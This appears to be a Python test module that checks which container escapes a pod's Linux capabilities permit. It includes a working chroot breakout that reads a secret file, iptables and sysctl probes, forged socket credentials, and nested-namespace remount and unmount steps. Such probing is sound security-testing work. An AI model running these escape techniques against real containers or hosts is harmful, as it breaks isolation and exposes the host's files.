"""What capabilities might be good for beside what they are kept for. facts: as in mounts.py."""

from __future__ import annotations

import array
import os
import socket

import mounts
from tools import call, facts, opens, read

NEWUSER, NEWNS = 0x10000000, 0x20000


def chroot_out() -> bool:
    """The classic way out of a chroot, by a directory that is held: to the host's root?"""
    os.makedirs("/tmp/cage", exist_ok=True)
    held = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/cage")
    os.fchdir(held)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return facts["marker"].encode() in read(facts["secret"])


def sys_net() -> bool:
    """A sysctl of the pod's own network, which CAP_NET_ADMIN owns."""
    return opens("/proc/sys/net/ipv4/ip_forward", os.O_WRONLY)


def tables() -> bool:
    """iptables by its old way: IPT_SO_GET_INFO, EINVAL for too short a buffer."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        try:
            raw.getsockopt(socket.IPPROTO_IP, 64, 1)
        except OSError as exc:
            if exc.errno not in (22, 92):  # ENOPROTOOPT: no such module, or the filter
                raise
            return exc.errno == 22
    return True


def forge_pid() -> bool:
    """Credentials that name another process than the sender."""
    ours, theirs = socket.socketpair()
    theirs.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    data = array.array("i", [1, os.getuid(), os.getgid()])
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, data)])
    return True


def _nested() -> None:
    """In a pod whose filter lets it: namespaces in which one has every capability."""
    if facts["inside"]:
        call("unshare", NEWUSER | NEWNS)


def nested_remount() -> bool:
    _nested()
    return mounts.remount_writable()


def nested_setattr() -> bool:
    _nested()
    return mounts.mount_setattr()


def nested_umount() -> bool:
    _nested()
    return mounts.umount()


def nested_umount_mask() -> bool:
    _nested()
    return mounts.umount_mask()
